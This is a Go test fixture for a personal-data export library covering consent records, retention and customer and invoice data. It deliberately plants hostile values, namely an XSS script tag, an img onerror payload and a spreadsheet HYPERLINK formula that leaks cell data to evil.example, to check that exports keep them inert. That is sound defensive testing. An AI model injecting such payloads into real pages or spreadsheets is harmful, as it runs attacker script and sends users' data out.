package export_test

import (
	"context"
	"crypto/sha256"
	"math/rand/v2"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/personaldata/personaldata"
	"github.com/personaldata/personaldata/consent"
	"github.com/personaldata/personaldata/export"
	"github.com/personaldata/personaldata/pii"
	"github.com/personaldata/personaldata/retention"
)

const subject personaldata.SubjectID = "customer-1017"

// Hostile values: each must stay inert in every view.
const (
	hostileScript = `<script>alert(1)</script>`
	hostileImg    = `"><img src=x onerror=alert(1)>`
	hostileLink   = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
)

// fixture is a host with a protector, a consent ledger, a retention policy
// and two categories of one customer.
type fixture struct {
	p        *pii.Protector
	ledger   *consent.Ledger
	eval     *retention.Evaluator
	accounts *export.MemorySource
	billing  *export.MemorySource
}

// newFixture builds the host. With sealed, the consent grant carries
// personal data, sealed with a random nonce: the consent chain hashes then
// differ from run to run, so golden files use sealed false.
func newFixture(t testing.TB, sealed bool) *fixture {
	t.Helper()
	ctx := context.Background()
	f := &fixture{p: newProtector(t), accounts: export.NewMemorySource(), billing: export.NewMemorySource()}
	l, err := consent.New(ctx, consent.NewMemoryStore(), &consent.Options{
		Clock: fixedClock, Entropy: rand.NewChaCha8([32]byte{2}), Sealer: f.p,
		Purposes: []consent.Purpose{
			{ID: "newsletter", Description: "Monthly newsletter", Basis: personaldata.Consent, DirectMarketing: true,
				Categories: []personaldata.Category{"email"}, Since: testNow.AddDate(-1, 0, 0)},
			{ID: "service-announcements", Description: "Service announcements", Basis: personaldata.Contract, Since: testNow.AddDate(-1, 0, 0)},
		},
		Notices: []consent.Notice{{Version: "2026-01", URL: "https://example.nl/privacy/2026-01", Language: "nl",
			ContentHash: sha256.Sum256([]byte("privacy statement")), AnnouncedAt: testNow.AddDate(0, -2, 0), EffectiveAt: testNow.AddDate(0, -2, 0),
			Purposes: []consent.PurposeID{"newsletter", "service-announcements"}}},
		Receipts: consent.ReceiptOptions{Jurisdiction: "NL", Service: "Example Mail"},
	})
	require.NoError(t, err)
	grant := consent.Change{Type: consent.EventGrant, Subject: subject, Purpose: "newsletter",
		EffectiveAt: testNow.AddDate(0, -1, 0), Method: consent.MethodForm, Actor: consent.ActorSubject}
	if sealed {
		grant.Personal = &consent.PersonalData{Contact: "jan@example.nl", Evidence: hostileImg}
	}
	_, err = l.Record(ctx, grant)
	require.NoError(t, err)
	_, err = l.Record(ctx, consent.Change{Type: consent.EventWithdraw, Subject: subject, Purpose: "newsletter",
		EffectiveAt: testNow.AddDate(0, 0, -1), Method: consent.MethodEmailLink, Actor: consent.ActorSubject})
	require.NoError(t, err)
	f.ledger = l
	f.eval, err = retention.New(retention.ExamplePolicy(), retention.NewMemoryHoldStore(), &retention.Options{Clock: fixedClock})
	require.NoError(t, err)

	c := customer(string(subject), 2)
	c.Name = hostileScript
	c.Plan = hostileImg
	c.Contacts = append(c.Contacts, Contact{Kind: hostileLink, Value: "@SUM(1+1)"})
	protect(t, f.p, c)
	c2 := customer(string(subject), 0)
	c2.Contacts, c2.Phones = nil, nil
	protect(t, f.p, c2)
	f.accounts.Add(subject, c, c2)
	inv := &Invoice{Subject: string(subject), Number: "2026-001", Name: "Jan de Vries", Amount: 12.5}
	protect(t, f.p, inv)
	f.billing.Add(subject, inv)
	return f
}

// exporter returns a deterministic exporter over f.
func (f *fixture) exporter(t testing.TB, opts *export.Options) *export.Exporter {
	t.Helper()
	o := export.Options{Now: fixedClock, Entropy: newEntropy(), Revealer: f.p, Consent: f.ledger, Retention: f.eval,
		SubjectKey: make([]byte, 32)}
	if opts != nil {
		if opts.Progress != nil {
			o.Progress = opts.Progress
		}
		if opts.PageRows != 0 {
			o.PageRows = opts.PageRows
		}
	}
	e, err := export.New(export.Controller{Name: "Example Mail B.V.", Contact: "privacy@example.nl",
		Address: "Dorpsstraat 1, 1234 AB Utrecht", Authority: "Autoriteit Persoonsgegevens, https://autoriteitpersoonsgegevens.nl"}, &o)
	require.NoError(t, err)
	require.NoError(t, e.Register(customerCategory, f.accounts))
	billing := invoiceCategory
	billing.Name = "billing"
	require.NoError(t, e.Register(billing, f.billing))
	return e
}
